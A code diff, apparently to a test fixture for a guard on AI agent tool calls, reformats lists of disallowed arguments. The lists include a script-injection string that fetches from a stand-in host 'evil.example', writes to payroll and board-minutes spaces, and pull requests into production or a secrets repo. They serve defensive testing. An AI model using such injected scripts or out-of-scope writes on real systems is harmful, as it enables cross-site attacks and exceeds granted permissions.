@@ -31,7 +31,11 @@ const KINDS: readonly Kind[] = [
   {
     ...{ agent: 'docs-writer', server: 'notion', tool: 'update_page', risk: 'write', good: 44 },
     args: (n) => ({ space: 'handbook', page: `p-${n % 12}`, text: `Paragraph ${n}` }),
-    bad: [{ space: 'board-minutes', text: 'x' }, { space: 'payroll' }, { text: '<script>fetch("//evil.example")</script>' }],
+    bad: [
+      { space: 'board-minutes', text: 'x' },
+      { space: 'payroll' },
+      { text: '<script>fetch("//evil.example")</script>' },
+    ],
   },
   {
     ...{ agent: 'release-bot', server: 'github', tool: 'create_branch', risk: 'write', good: 46 },
@@ -41,7 +45,11 @@ const KINDS: readonly Kind[] = [
   {
     ...{ agent: 'release-bot', server: 'github', tool: 'create_pull_request', risk: 'write', good: 40 },
     args: (n, roll) => ({ repo: REPOS[roll(2)]!, head: `release/${n}`, base: 'develop', title: `Release ${n}` }),
-    bad: [{ base: 'production', head: 'evil', title: 'Release' }, { repo: 'infra-secrets' }, { head: 'fork:release/1' }],
+    bad: [
+      { base: 'production', head: 'evil', title: 'Release' },
+      { repo: 'infra-secrets' },
+      { head: 'fork:release/1' },
+    ],
   },
   {
     ...{ agent: 'billing-agent', server: 'stripe', tool: 'create_refund', risk: 'financial', good: 9 },
